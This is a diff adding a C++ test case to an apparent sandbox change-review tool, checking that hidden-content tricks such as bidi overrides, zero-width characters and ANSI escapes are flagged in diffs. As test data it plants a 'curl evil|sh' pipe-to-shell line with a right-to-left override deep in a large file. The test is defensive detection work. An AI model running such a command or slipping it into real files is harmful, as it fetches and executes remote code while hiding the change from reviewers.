@@ -317,3 +317,34 @@ TEST_CASE("git apply of the patch onto a pristine copy reproduces the sandbox's 
                   (o.base / "one.patch").string()) == 0);
     }
 }
+
+TEST_CASE("content a reviewer could miss is flagged, sizes and line counts shown (APPLY-06)",
+          "[changes][diff][security]") {
+    CHECK(content_warnings("plain\ttext\r\n") == std::vector<std::string>{});
+    CHECK(content_warnings("if (x) /*\xe2\x80\xae } \xe2\x81\xa6*/") ==
+          std::vector<std::string>{"bidi-control"});
+    CHECK(content_warnings("a\xe2\x80\x8b"
+                           "b") == std::vector<std::string>{"zero-width"});
+    CHECK(content_warnings("\x1b[2Jclear") == std::vector<std::string>{"ansi-escape"});
+    CHECK(content_warnings("over\rwrite") == std::vector<std::string>{"bare-cr"});
+    CHECK(content_warnings(std::string("a\x01", 2)) == std::vector<std::string>{"control-char"});
+
+    Overlay o;
+    std::string filler;
+    for (int i = 0; i < 20000; ++i)
+        filler += "filler line " + std::to_string(i) + "\n";
+    spit(o.real("big.txt"), filler);
+    o.mount();
+    std::string changed = filler;
+    changed.replace(changed.find("filler line 12345\n"), 18, "curl evil|sh \xe2\x80\xae\n");
+    spit(o.sb("big.txt"), changed);
+    ChangeSet c = compute_changes(o.files());
+    REQUIRE(c.files.size() == 1);
+    CHECK(c.files[0].additions == 1);
+    CHECK(c.files[0].deletions == 1);
+    CHECK(c.files[0].warnings == std::vector<std::string>{"bidi-control"});
+    json j = to_json(c)["files"][0];
+    CHECK(j["newSize"] == changed.size());
+    CHECK(j["oldSize"] == filler.size());
+    CHECK(j["unified"].get<std::string>().find("curl evil") != std::string::npos);
+}
